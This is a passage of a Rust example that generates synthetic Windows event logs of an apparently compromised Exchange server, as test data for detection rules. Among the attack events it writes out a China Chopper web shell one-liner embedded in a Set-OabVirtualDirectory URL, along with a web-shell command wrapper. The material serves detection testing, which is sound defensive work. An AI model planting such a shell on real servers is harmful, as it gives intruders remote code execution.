//! Writes the Windows event logs of the two demo servers (see `examples/README.md`).
//!
//! ```text
//! cargo run -p exhunt-events --example demo_evtx -- examples
//! ```
//!
//! Deterministic: fixed times, one fixed-seed generator per server, no clock input. Writes
//! `<server>/…/Windows/System32/winevt/Logs/*.evtx` for EX01 (`compromised-ex2016`, KAPE layout)
//! and EX02 (`clean-ex2016`, Velociraptor layout) with [`EvtxWriter`], then rewrites the marked
//! "Windows event logs" section of `examples/README.md` with every attack event's file, record id
//! and time (record ids are only known once each log is sorted by time, so the README is
//! written from here; `examples/generate.py` keeps the marked section when it rewrites the rest).
//!
//! The writer repeats the template in every record (1–2 KB per event), so the logs hold fewer
//! events than a real server's and Sysmon events carry a trimmed field set: enough background to
//! make the rules discriminate, small enough for the repository.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, TimeZone, Utc};
use exhunt_events::evtx_writer::{EvtxWriter, WriterEvent};

const APP: &str = "Application.evtx";
const SEC: &str = "Security.evtx";
const SYS: &str = "System.evtx";
const SYSMON: &str = "Microsoft-Windows-Sysmon%4Operational.evtx";
const MGMT: &str = "MSExchange Management.evtx";
const PS: &str = "Microsoft-Windows-PowerShell%4Operational.evtx";
const DEF: &str = "Microsoft-Windows-Windows Defender%4Operational.evtx";

const BEGIN: &str = "<!-- demo_evtx:begin (written by crates/events/examples/demo_evtx.rs; generate.py keeps it) -->";
const END: &str = "<!-- demo_evtx:end -->";

fn channel_of(file: &str) -> &'static str {
    match file {
        APP => "Application",
        SEC => "Security",
        SYS => "System",
        SYSMON => "Microsoft-Windows-Sysmon/Operational",
        MGMT => "MSExchange Management",
        PS => "Microsoft-Windows-PowerShell/Operational",
        DEF => "Microsoft-Windows-Windows Defender/Operational",
        _ => unreachable!("{file}"),
    }
}

/// SplitMix64: small, fixed-seed, no dependency.
struct Rng(std::cell::Cell<u64>);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(std::cell::Cell::new(seed))
    }
    fn next(&self) -> u64 {
        self.0.set(self.0.get().wrapping_add(0x9e37_79b9_7f4a_7c15));
        let mut z = self.0.get();
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&self, n: u64) -> u64 {
        self.next() % n
    }
    fn range(&self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo + 1) as u64) as i64
    }
    fn pick<'a, T>(&self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
    fn hex(&self, n: usize) -> String {
        (0..n)
            .map(|_| char::from_digit(self.below(16) as u32, 16).unwrap())
            .collect::<String>()
            .to_uppercase()
    }
    fn guid(&self) -> String {
        format!(
            "{{{}-{}-{}-{}-{}}}",
            self.hex(8),
            self.hex(4),
            self.hex(4),
            self.hex(4),
            self.hex(12)
        )
    }
}

fn at(d: u32, h: u32, m: u32, s: u32, ms: i64) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2021, 3, d, h, m, s).unwrap() + Duration::milliseconds(ms)
}

/// A process as Sysmon names it.
#[derive(Clone)]
struct Proc {
    guid: String,
    pid: u32,
    image: String,
    cmd: String,
}

/// An attack (or trap) event to list in the README.
struct Tag {
    id: &'static str,
    kind: &'static str,
    what: String,
}

struct Server {
    name: &'static str,
    fqdn: &'static str,
    outdir: &'static str,
    prefix: &'static str,
    exch: &'static str,
    rng: Rng,
    logs: BTreeMap<&'static str, Vec<(WriterEvent, Option<Tag>)>>,
    next_pid: u32,
    logon_id: u64,
}

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const W3WP: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CSC: &str = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe";
const CVTRES: &str = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe";
const DOMAIN_SID: &str = "S-1-5-21-3623811015-3361044348-30300820";

impl Server {
    fn new(ex01: bool) -> Server {
        let mut logs = BTreeMap::new();
        for f in [APP, SEC, SYS, SYSMON, MGMT, PS, DEF] {
            logs.insert(f, Vec::new());
        }
        if ex01 {
            Server {
                name: "EX01",
                fqdn: "EX01.contoso.local",
                outdir: "compromised-ex2016",
                prefix: "C",
                exch: r"C:\Program Files\Microsoft\Exchange Server\V15",
                rng: Rng::new(0x0e01_2021_0303),
                logs,
                next_pid: 1200,
                logon_id: 0x3e7_0000,
            }
        } else {
            Server {
                name: "EX02",
                fqdn: "EX02.contoso.local",
                outdir: "clean-ex2016",
                prefix: "uploads/auto/C%3A",
                exch: r"C:\Exchange\V15",
                rng: Rng::new(0x0e02_2021_0303),
                logs,
                next_pid: 1300,
                logon_id: 0x4a1_0000,
            }
        }
    }

    fn push(&mut self, file: &'static str, ev: WriterEvent, tag: Option<Tag>) {
        self.logs.get_mut(file).unwrap().push((ev, tag));
    }

    fn event(
        &self,
        file: &'static str,
        provider: &str,
        id: u16,
        level: u8,
        t: DateTime<Utc>,
        data: &[(&str, &str)],
    ) -> WriterEvent {
        let mut e = WriterEvent::new(channel_of(file), provider, id, self.fqdn, t, data);
        e.level = level;
        e
    }

    fn add(
        &mut self,
        file: &'static str,
        provider: &str,
        id: u16,
        level: u8,
        t: DateTime<Utc>,
        data: &[(&str, &str)],
    ) {
        let e = self.event(file, provider, id, level, t, data);
        self.push(file, e, None);
    }

    /// A classic-provider event: unnamed data values.
    #[allow(clippy::too_many_arguments)]
    fn classic(
        &mut self,
        file: &'static str,
        provider: &str,
        id: u16,
        level: u8,
        t: DateTime<Utc>,
        values: &[&str],
        tag: Option<Tag>,
    ) {
        let mut e = self.event(file, provider, id, level, t, &[]);
        e.data = values.iter().map(|v| (None, v.to_string())).collect();
        self.push(file, e, tag);
    }

    fn pid(&mut self) -> u32 {
        self.next_pid += 4 * (1 + self.rng.below(60) as u32);
        if self.next_pid > 14000 {
            self.next_pid = 1100 + self.rng.below(400) as u32 * 4;
        }
        self.next_pid
    }

    /// A process that was already running when the period starts (no event).
    fn running(&mut self, pid: u32, image: &str, cmd: &str) -> Proc {
        Proc {
            guid: self.rng.guid(),
            pid,
            image: image.into(),
            cmd: cmd.into(),
        }
    }

    /// Sysmon 1 (trimmed field set); returns the new process.
    #[allow(clippy::too_many_arguments)]
    fn spawn(
        &mut self,
        t: DateTime<Utc>,
        parent: &Proc,
        image: &str,
        cmd: &str,
        dir: &str,
        user: &str,
        integrity: &str,
        tag: Option<Tag>,
    ) -> Proc {
        let p = Proc {
            guid: self.rng.guid(),
            pid: self.pid(),
            image: image.into(),
            cmd: cmd.into(),
        };
        let utc = t.format("%Y-%m-%d %H:%M:%S%.3f").to_string();
        let pid = p.pid.to_string();
        let ppid = parent.pid.to_string();
        let e = self.event(
            SYSMON,
            "Microsoft-Windows-Sysmon",
            1,
            4,
            t,
            &[
                ("UtcTime", &utc),
                ("ProcessGuid", &p.guid),
                ("ProcessId", &pid),
                ("Image", image),
                ("CommandLine", cmd),
                ("CurrentDirectory", dir),
                ("User", user),
                ("IntegrityLevel", integrity),
                ("ParentProcessGuid", &parent.guid),
                ("ParentProcessId", &ppid),
                ("ParentImage", &parent.image),
                ("ParentCommandLine", &parent.cmd),
            ],
        );
        self.push(SYSMON, e, tag);
        p
    }

    /// Sysmon 11 (file created).
    fn file_created(&mut self, t: DateTime<Utc>, by: &Proc, path: &str, tag: Option<Tag>) {
        let utc = t.format("%Y-%m-%d %H:%M:%S%.3f").to_string();
        let pid = by.pid.to_string();
        let e = self.event(
            SYSMON,
            "Microsoft-Windows-Sysmon",
            11,
            4,
            t,
            &[
                ("UtcTime", &utc),
                ("ProcessGuid", &by.guid),
                ("ProcessId", &pid),
                ("Image", &by.image),
                ("TargetFilename", path),
                ("CreationUtcTime", &utc),
            ],
        );
        self.push(SYSMON, e, tag);
    }

    /// MSExchange CmdletLogs event 1 (cmdlet succeeded): unnamed data as Windows writes it.
    #[allow(clippy::too_many_arguments)]
    fn cmdlet(
        &mut self,
        t: DateTime<Utc>,
        cmdlet: &str,
        params: &str,
        caller: &str,
        sid: &str,
        origin: &str,
        process: &str,
        tag: Option<Tag>,
    ) {
        let mut e = self.event(MGMT, "MSExchange CmdletLogs", 1, 4, t, &[]);
        let elapsed = format!(
            "00:00:0{}.{:07}",
            self.rng.below(3),
            self.rng.below(10_000_000)
        );
        let scope = "View Entire Forest: 'False', Configuration Domain Controller: 'DC01.contoso.local', Preferred Global Catalog: 'DC01.contoso.local'";
        let activity = format!("ActivityId: {}", self.rng.guid().trim_matches(['{', '}']));
        let values = [
            cmdlet,
            params,
            caller,
            sid,
            sid,
            origin,
            process,
            "",
            "1",
            &elapsed,
            scope,
            "",
            "False",
            "",
            &activity,
            "ServicePlan:;IsAdmin:True;",
            "en-US",
        ];
        e.data = values.iter().map(|v| (None, v.to_string())).collect();
        self.push(MGMT, e, tag);
    }

    /// PowerShell 4104 (script block logged).
    fn script_block(&mut self, t: DateTime<Utc>, text: &str, path: &str, tag: Option<Tag>) {
        let id = self.rng.guid().trim_matches(['{', '}']).to_lowercase();
        // Script blocks that look suspicious to PowerShell are logged as warnings.
        let level = if tag.is_some() { 3 } else { 5 };
        let e = self.event(
            PS,
            "Microsoft-Windows-PowerShell",
            4104,
            level,
            t,
            &[
                ("MessageNumber", "1"),
                ("MessageTotal", "1"),
                ("ScriptBlockText", text),
                ("ScriptBlockId", &id),
                ("Path", path),
            ],
        );
        self.push(PS, e, tag);
    }

    fn service_state(&mut self, t: DateTime<Utc>, name: &str, state: &str) {
        self.add(
            SYS,
            "Service Control Manager",
            7036,
            4,
            t,
            &[("param1", name), ("param2", state)],
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn service_installed(
        &mut self,
        t: DateTime<Utc>,
        name: &str,
        image: &str,
        kind: &str,
        start: &str,
        account: &str,
        tag: Option<Tag>,
    ) {
        let e = self.event(
            SYS,
            "Service Control Manager",
            7045,
            4,
            t,
            &[
                ("ServiceName", name),
                ("ImagePath", image),
                ("ServiceType", kind),
                ("StartType", start),
                ("AccountName", account),
            ],
        );
        self.push(SYS, e, tag);
    }

    /// 4624 + later 4634 for a network (3), service (5) or RDP (10) logon.
    fn logon(&mut self, t: DateTime<Utc>, user: &str, domain: &str, kind: u8, ip: &str, secs: i64) {
        self.logon_id += 0x1f3 + self.rng.below(0x400);
        let id = format!("0x{:x}", self.logon_id);
        let sid = match user {
            "SYSTEM" => "S-1-5-18".to_string(),
            u if u.ends_with('$') => format!("{DOMAIN_SID}-{}", 1000 + u.len()),
            u => format!(
                "{DOMAIN_SID}-{}",
                1100 + u.bytes().map(u64::from).sum::<u64>() % 300
            ),
        };
        let (process, auth, package) = match kind {
            3 => ("-", "Kerberos", "Kerberos"),
            5 => (r"C:\Windows\System32\services.exe", "Negotiate", "-"),
            _ => (r"C:\Windows\System32\svchost.exe", "Negotiate", "-"),
        };
        let kind_s = kind.to_string();
        let e = self.event(
            SEC,
            "Microsoft-Windows-Security-Auditing",
            4624,
            0,
            t,
            &[
                ("TargetUserSid", &sid),
                ("TargetUserName", user),
                ("TargetDomainName", domain),
                ("TargetLogonId", &id),
                ("LogonType", &kind_s),
                ("LogonProcessName", auth),
                ("AuthenticationPackageName", package),
                ("ProcessName", process),
                ("IpAddress", ip),
            ],
        );
        self.push(SEC, e, None);
        if secs > 0 {
            self.add(
                SEC,
                "Microsoft-Windows-Security-Auditing",
                4634,
                0,
                t + Duration::seconds(secs),
                &[
                    ("TargetUserSid", &sid),
                    ("TargetUserName", user),
                    ("TargetDomainName", domain),
                    ("TargetLogonId", &id),
                    ("LogonType", &kind_s),
                ],
            );
        }
    }

    fn app_pools(&mut self, pids: [u32; 3]) -> [Proc; 3] {
        let p = |pool: &str| {
            format!(
                r#"c:\windows\system32\inetsrv\w3wp.exe -ap "{pool}" -v "v4.0" -a \\.\pipe\iisipm{} -h "C:\inetpub\temp\apppools\{pool}\{pool}.config" -w "" -m 0"#,
                "9f2c4e1a-6b3d-4c8e-a1f0-5d7b2e9c3a41"
            )
        };
        let owa = p("MSExchangeOWAAppPool");
        let ecp = p("MSExchangeECPAppPool");
        let ps = p("MSExchangePowerShellAppPool");
        [
            self.running(pids[0], W3WP, &owa),
            self.running(pids[1], W3WP, &ecp),
            self.running(pids[2], W3WP, &ps),
        ]
    }
}

fn tag(id: &'static str, what: impl Into<String>) -> Option<Tag> {
    Some(Tag {
        id,
        kind: "attack",
        what: what.into(),
    })
}

fn trap(id: &'static str, what: impl Into<String>) -> Option<Tag> {
    Some(Tag {
        id,
        kind: "trap",
        what: what.into(),
    })
}

/// Background activity shared by both servers: services, logons, Exchange processes, admin
/// cmdlets, Defender housekeeping. `security_from` is when the Security log begins.
fn benign(s: &mut Server, security_from: DateTime<Utc>, pools: &[Proc; 3]) {
    let exch = s.exch;
    let bin = format!(r"{exch}\Bin");
    let svchost_netsvcs = s.running(
        1104,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p",
    );
    let dcom = s.running(
        788,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    );
    let hmhost = s.running(
        4012,
        &format!(r"{bin}\MSExchangeHMHost.exe"),
        &format!(r#""{bin}\MSExchangeHMHost.exe""#),
    );
    let diag = s.running(
        3720,
        &format!(r"{bin}\Microsoft.Exchange.Diagnostics.Service.exe"),
        &format!(r#""{bin}\Microsoft.Exchange.Diagnostics.Service.exe""#),
    );
    let hostctl = s.running(
        3348,
        &format!(r"{bin}\Search\Ceres\Runtime\1.0\hostcontrollerservice.exe"),
        &format!(r#""{bin}\Search\Ceres\Runtime\1.0\hostcontrollerservice.exe""#),
    );
    let um = s.running(
        3964,
        &format!(r"{bin}\UMService.exe"),
        &format!(r#""{bin}\UMService.exe""#),
    );
    let mpcmd = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2101.9-0\MpCmdRun.exe";
    let (dc, peer) = (
        "10.10.1.5",
        if s.name == "EX01" {
            "10.10.1.11"
        } else {
            "10.10.1.10"
        },
    );
    let peer_acct = if s.name == "EX01" { "EX02$" } else { "EX01$" };
    let me_acct = format!("{}$", s.name);

    for d in 1..=10u32 {
        let r = &s.rng;
        let j = |r: &Rng, lo: i64, hi: i64| Duration::seconds(r.range(lo, hi));
        let day = at(d, 0, 0, 0, 0);
        // --- Sysmon: daily Exchange/Windows housekeeping processes ---
        let t = day + Duration::minutes(5) + j(r, 0, 120);
        s.spawn(
            t,
            &diag,
            r"C:\Windows\System32\logman.exe",
            r#""C:\Windows\system32\logman.exe" start ExchangeDiagnosticsDailyPerformanceLog"#,
            &format!(r"{bin}\"),
            SYSTEM,
            "System",
            None,
        );
        if d % 2 == 1 {
            let t = day + Duration::hours(3) + j(&s.rng, 0, 1800);
            s.spawn(
                t,
                &svchost_netsvcs,
                mpcmd,
                &format!(r#""{mpcmd}" SignatureUpdate -ScheduleJob -RestrictPrivileges"#),
                r"C:\Windows\system32\",
                SYSTEM,
                "System",
                None,
            );
        }
        if d % 2 == 0 {
            let t = day + Duration::hours((6 + d % 12).into()) + j(&s.rng, 0, 3000);
            s.spawn(
                t,
                &dcom,
                r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                r"C:\Windows\system32\",
                "NT AUTHORITY\\NETWORK SERVICE",
                "System",
                None,
            );
        }
        if d % 4 == 3 {
            let t = day + Duration::hours(9) + j(&s.rng, 0, 7200);
            s.spawn(
                t,
                &hmhost,
                &format!(r"{bin}\MSExchangeHMWorker.exe"),
                &format!(r#""{bin}\MSExchangeHMWorker.exe" -workerType:Default"#),
                &format!(r"{bin}\"),
                SYSTEM,
                "System",
                None,
            );
        }
        if d % 5 == 1 {
            let t = day + Duration::hours(2) + j(&s.rng, 0, 3000);
            s.spawn(t, &hostctl, &format!(r"{bin}\Search\Ceres\Runtime\1.0\noderunner.exe"), &format!(r#""{bin}\Search\Ceres\Runtime\1.0\noderunner.exe" --noderoot "{bin}\Search\Ceres\HostController\Data\Nodes\Fsis" --addressbook=ContentEngineNode1"#), &format!(r"{bin}\Search\Ceres\Runtime\1.0\"), SYSTEM, "System", None);
        }
        if d % 2 == 0 {
            // The UM service recycles its worker; a crash dump goes to WerFault (a child
            // EXH-EV-011 must ignore).
            let t = day + Duration::hours(4) + j(&s.rng, 0, 3000);
            let w = s.spawn(t, &um, &format!(r"{bin}\UMWorkerProcess.exe"), &format!(r#""{bin}\UMWorkerProcess.exe" -CertificateThumbprint:0 -PipeName:UMWorkerProcessPipe -perfenabled:True -SIPPort:5065 -Sdp"#), &format!(r"{bin}\"), SYSTEM, "System", None);
            if d == 6 {
                s.spawn(
                    t + Duration::seconds(3),
                    &w,
                    r"C:\Windows\System32\WerFault.exe",
                    &format!(r"C:\Windows\system32\WerFault.exe -u -p {} -s 1480", w.pid),
                    r"C:\Windows\system32\",
                    SYSTEM,
                    "System",
                    None,
                );
            }
        }

        // --- System: services starting and stopping on schedule ---
        if d % 2 == 1 {
            let t = day + Duration::hours(3) + j(&s.rng, 0, 600);
            s.service_state(t, "Windows Modules Installer", "running");
            s.service_state(
                t + j(&s.rng, 60, 600),
                "Windows Modules Installer",
                "stopped",
            );
        }
        if d % 2 == 0 {
            let t = day + Duration::hours(1) + j(&s.rng, 0, 3000);
            s.service_state(t, "Background Intelligent Transfer Service", "running");
            s.service_state(
                t + j(&s.rng, 120, 900),
                "Background Intelligent Transfer Service",
                "stopped",
            );
        }
        let t = day + Duration::hours(22) + j(&s.rng, 0, 1200);
        s.service_state(t, "Veeam Installer Service", "running");
        s.service_state(t + j(&s.rng, 60, 300), "Veeam Installer Service", "stopped");
        if d % 3 == 0 {
            s.add(
                SYS,
                "Microsoft-Windows-Time-Service",
                37,
                4,
                day + Duration::hours(11) + j(&s.rng, 0, 900),
                &[(
                    "TimeSource",
                    "DC01.contoso.local (ntp.d|0.0.0.0:123->10.10.1.5:123)",
                )],
            );
        }

        // --- Application: Exchange informational events ---
        let t = day + Duration::hours(1) + j(&s.rng, 0, 3000);
        s.classic(
            APP,
            "MSExchange ADAccess",
            2080,
            4,
            t,
            &[
                "Microsoft.Exchange.Directory.TopologyService.exe",
                "2404",
                "DC01.contoso.local CDG 1 7 7 1 0 1 1 7 1",
                "",
                "",
            ],
            None,
        );
        for h in [7u32, 19] {
            let t = day + Duration::hours(h.into()) + j(&s.rng, 0, 3000);
            let msg = format!("The Unified Messaging service on server {} successfully processed its configuration update. UM dial plans: 1; UM worker processes: 1.", s.name);
            s.classic(
                APP,
                "MSExchange Unified Messaging",
                1400,
                4,
                t,
                &[&msg],
                None,
            );
        }
        let t = day + Duration::hours(13) + j(&s.rng, 0, 3000);
        s.classic(
            APP,
            "MSExchangeFastSearch",
            1004,
            4,
            t,
            &["DB01", "Healthy"],
            None,
        );
        let t = day + Duration::hours(16) + j(&s.rng, 0, 3000);
        s.classic(
            APP,
            "Microsoft-Windows-Security-SPP",
            16384,
            4,
            t,
            &["2021-04-02T16:10:00Z", "RulesEngine"],
            None,
        );

        // --- Defender: signature updates and the daily quick scan ---
        let t = day + Duration::hours(3) + j(&s.rng, 60, 1800);
        let sig = format!("1.333.{}.0", 400 + d * 37);
        s.add(
            DEF,
            "Microsoft-Windows-Windows Defender",
            2000,
            4,
            t,
            &[
                ("Product Name", "Microsoft Defender Antivirus"),
                ("Product Version", "4.18.2101.9"),
                ("Signature Type", "AntiVirus"),
                ("Update Type", "Delta"),
                ("Current Signature Version", &sig),
                ("Current Engine Version", "1.1.17800.5"),
            ],
        );
        let t = day + Duration::hours(2) + j(&s.rng, 0, 1800);
        let scan = s.rng.guid();
        s.add(
            DEF,
            "Microsoft-Windows-Windows Defender",
            1000,
            4,
            t,
            &[
                ("Product Name", "Microsoft Defender Antivirus"),
                ("Scan ID", &scan),
                ("Scan Type", "Antimalware"),
                ("Scan Parameters", "Quick Scan"),
                ("Domain", "NT AUTHORITY"),
                ("User", "SYSTEM"),
            ],
        );
        s.add(
            DEF,
            "Microsoft-Windows-Windows Defender",
            1001,
            4,
            t + j(&s.rng, 200, 900),
            &[
                ("Product Name", "Microsoft Defender Antivirus"),
                ("Scan ID", &scan),
                ("Scan Type", "Antimalware"),
                ("Scan Parameters", "Quick Scan"),
                ("Domain", "NT AUTHORITY"),
                ("User", "SYSTEM"),
                ("Scan Time Hours", "0"),
                ("Scan Time Minutes", "4"),
            ],
        );

        // --- Security: network logons of peers, health checks and services ---
        let mut t = day + j(&s.rng, 0, 1800);
        let end = day + Duration::days(1);
        while t < end {
            if t >= security_from {
                let r = s.rng.below(10);
                match r {
                    0..=3 => s.logon(t, peer_acct, "CONTOSO", 3, peer, s.rng.range(1, 30)),
                    4..=5 => s.logon(
                        t,
                        "svc-reporting",
                        "CONTOSO",
                        3,
                        "10.10.2.40",
                        s.rng.range(2, 20),
                    ),
                    6 => s.logon(t, &me_acct, "CONTOSO", 3, "::1", s.rng.range(1, 5)),
                    7 => s.logon(t, "DC01$", "CONTOSO", 3, dc, s.rng.range(1, 9)),
                    _ => s.logon(t, "SYSTEM", "NT AUTHORITY", 5, "-", 0),
                }
            }
            t += Duration::minutes(s.rng.range(300, 560));
        }
        if d % 2 == 1 && day + Duration::hours(9) >= security_from {
            let t = day + Duration::hours(9) + j(&s.rng, 0, 3600);
            s.logon(
                t,
                "admin-jdoe",
                "CONTOSO",
                10,
                "10.10.2.15",
                s.rng.range(900, 3600),
            );
        }
    }

    // --- MSExchange Management: the admins' routine cmdlets ---
    let jdoe = (
        "contoso.local/Users/admin-jdoe",
        format!("{DOMAIN_SID}-1187"),
    );
    let exadmin = ("contoso.local/Users/exadmin", format!("{DOMAIN_SID}-1104"));
    let ems = format!("{} w3wp#MSExchangePowerShellAppPool", pools[2].pid);
    let ecp = format!("{} w3wp#MSExchangeECPAppPool", pools[1].pid);
    let users = [
        "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
    ];
    let routine: &[(&str, &str)] = &[
        ("Get-Mailbox", "-ResultSize \"Unlimited\""),
        ("Get-MailboxDatabase", "-Status \"True\""),
        ("Get-ExchangeServer", ""),
        ("Get-Queue", "-Server \"{srv}\""),
        ("Get-MailboxDatabaseCopyStatus", "-Server \"{srv}\""),
        ("Set-Mailbox", "-Identity \"{user}@contoso.com\" -ProhibitSendQuota \"9.5 GB\" -IssueWarningQuota \"9 GB\""),
        ("Set-CASMailbox", "-Identity \"{user}@contoso.com\" -ActiveSyncEnabled \"True\""),
        ("Add-MailboxPermission", "-Identity \"shared-{user}@contoso.com\" -User \"CONTOSO\\{user}\" -AccessRights \"FullAccess\" -InheritanceType \"All\""),
        ("Get-MailboxStatistics", "-Identity \"{user}@contoso.com\""),
        ("Get-MessageTrackingLog", "-Sender \"{user}@contoso.com\" -Start \"03/0{d}/2021 08:00:00\""),
    ];
    for d in 1..=10u32 {
        let n = 1 + s.rng.below(2);
        let mut t = at(d, 8, 30, 0, 0) + Duration::seconds(s.rng.range(0, 3600));
        for _ in 0..n {
            let (c, p) = *s.rng.pick(routine);
            let user = *s.rng.pick(&users);
            let p = p
                .replace("{srv}", s.name)
                .replace("{user}", user)
                .replace("{d}", &d.to_string());
            s.cmdlet(
                t,
                c,
                &p,
                jdoe.0,
                &jdoe.1,
                "Remote-ManagementShell-Unknown",
                &ems.clone(),
                None,
            );
            t += Duration::seconds(s.rng.range(20, 900));
        }
        if d % 4 == 2 {
            let t = at(d, 14, 10, 0, 0) + Duration::seconds(s.rng.range(0, 2400));
            s.cmdlet(
                t,
                "Get-Mailbox",
                "-ResultSize \"500\" -SortBy \"DisplayName\"",
                exadmin.0,
                &exadmin.1,
                "Remote-ECP-Unknown",
                &ecp.clone(),
                None,
            );
        }
    }
    // Benign look-alikes of the attack cmdlets (traps).
    let t = at(2, 10, 17, 33, 120);
    s.cmdlet(t, "Set-OabVirtualDirectory", &format!("-Identity \"{}\\OAB (Default Web Site)\" -ExternalUrl \"https://mail.contoso.com/OAB\" -InternalUrl \"https://{}/OAB\"", s.name, s.fqdn.to_lowercase()), jdoe.0, &jdoe.1, "Remote-ManagementShell-Unknown", &ems.clone(),
        trap("T-EV-OABURL", "benign Set-OabVirtualDirectory with valid https URLs (EXH-EV-006 must not fire)"));
    let t = at(4, 11, 2, 8, 410);
    s.cmdlet(t, "New-ManagementRoleAssignment", "-Role \"ApplicationImpersonation\" -User \"svc-veeam\"", jdoe.0, &jdoe.1, "Remote-ManagementShell-Unknown", &ems.clone(),
        trap("T-EV-ROLE", "benign role assignment (ApplicationImpersonation for the backup account; EXH-EV-004 must not fire)"));
    let t = at(8, 15, 40, 51, 870);
    s.cmdlet(t, "Set-OwaVirtualDirectory", &format!("-Identity \"{}\\owa (Default Web Site)\" -ExternalUrl \"https://mail.contoso.com/owa\"", s.name), jdoe.0, &jdoe.1, "Remote-ManagementShell-Unknown", &ems.clone(), None);
    let t = at(9, 9, 12, 4, 300);
    s.cmdlet(t, "New-Mailbox", "-Name \"Ivan Petrov\" -UserPrincipalName \"ivan@contoso.com\" -OrganizationalUnit \"contoso.local/Staff\" -Database \"DB01\"", jdoe.0, &jdoe.1, "Remote-ManagementShell-Unknown", &ems.clone(), None);

    // --- PowerShell: the admin's Exchange Management Shell sessions and a reporting task ---
    let remote = format!(r"{bin}\RemoteExchange.ps1");
    for d in [1u32, 3, 5, 8, 10] {
        let t = at(d, 9, 40, 0, 0) + Duration::seconds(s.rng.range(0, 1800));
        s.script_block(t, ". 'RemoteExchange.ps1'; Connect-ExchangeServer -auto -ClientApplication:ManagementShell", "", None);
        s.script_block(t + Duration::seconds(2), "function Connect-ExchangeServer ([string]$ServerFqdn, [switch]$Auto, [string]$ClientApplication) { $global:remoteSession = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri \"http://$ServerFqdn/powershell?serializationLevel=Full\" -Authentication Kerberos; Import-PSSession $global:remoteSession -AllowClobber }", &remote, None);
        s.script_block(t + Duration::seconds(s.rng.range(30, 600)), "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 20 DisplayName,TotalItemSize", "", None);
    }
    for d in 1..=10u32 {
        let t = at(d, 5, 2, 0, 0) + Duration::seconds(s.rng.range(0, 600));
        s.script_block(t, "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\nGet-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select-Object DisplayName,ItemCount,TotalItemSize | Export-Csv -NoTypeInformation \"\\\\FS01\\Reports$\\mailbox-sizes.csv\"", r"C:\Scripts\Mailbox-SizeReport.ps1",
            if d == 1 { trap("T-EV-SNAPIN", "benign reporting script: Exchange snap-in + Get-Mailbox + Export-Csv, no export request (EXH-EV-016 must not fire)") } else { None });
    }
}

fn write_server(root: &Path, s: Server) -> Vec<(String, u64, DateTime<Utc>, Tag)> {
    let dir = root
        .join(s.outdir)
        .join(s.prefix)
        .join("Windows/System32/winevt/Logs");
    std::fs::create_dir_all(&dir).unwrap();
    let mut index = Vec::new();
    for (file, mut events) in s.logs {
        events.sort_by_key(|(e, _)| e.time);
        let mut w = EvtxWriter::new();
        for (e, t) in events {
            let id = w.add(&e);
            if let Some(t) = t {
                index.push((file.to_string(), id, e.time, t));
            }
        }
        std::fs::write(dir.join(file), w.finish()).unwrap();
    }
    index
}

fn ex01() -> Server {
    let mut s = Server::new(true);
    let exch = s.exch;
    let [owa, ecp, ps] = s.app_pools([8812, 7340, 6672]);
    let security_from = at(9, 21, 4, 26, 190);
    benign(
        &mut s,
        security_from,
        &[owa.clone(), ecp.clone(), ps.clone()],
    );
    let wwwroot = r"C:\inetpub\wwwroot\aspnet_client\system_web";
    let shell = format!(r"{wwwroot}\KZsqDfnb.aspx");
    let auth = format!(r"{exch}\FrontEnd\HttpProxy\owa\auth");
    let ant = |dir: &str, c: &str| format!(r#"cmd /c "cd /d "{dir}"&{c}&echo [S]&cd&echo [E]""#);

    // CVE-2021-26857: the UM worker fails to deserialize (just before the SSRF chain).
    s.classic(APP, "MSExchange Unified Messaging", 1051, 2, at(3, 2, 40, 52, 318), &["An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMVoiceMailMessage'.\r\n   at Microsoft.Exchange.UM.UMCore.UMMessageRecord.Deserialize(Byte[] data)\r\n   at Microsoft.Exchange.UM.UMCore.VoiceMessageSubmission.ProcessRequest(PipelineContext context)"], tag("EV-A1", "MSExchange Unified Messaging error with System.InvalidCastException (CVE-2021-26857)"));

    // CVE-2021-27065 through the ECP session obtained by SSRF (ECP server log 02:42:09).
    let admin = (
        "contoso.local/Users/Administrator",
        format!("{DOMAIN_SID}-500"),
    );
    let ecp_proc = format!("{} w3wp#MSExchangeECPAppPool", ecp.pid);
    let chopper = r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"#;
    s.cmdlet(
        at(3, 2, 42, 10, 204),
        "Set-OabVirtualDirectory",
        &format!("-ExternalUrl \"{chopper}\" -Identity \"EX01\\OAB (Default Web Site)\""),
        admin.0,
        &admin.1,
        "Remote-ECP-Unknown",
        &ecp_proc,
        tag(
            "EV-A2",
            "Set-OabVirtualDirectory with the China Chopper script in ExternalUrl (CVE-2021-27065)",
        ),
    );
    s.cmdlet(
        at(3, 2, 44, 16, 931),
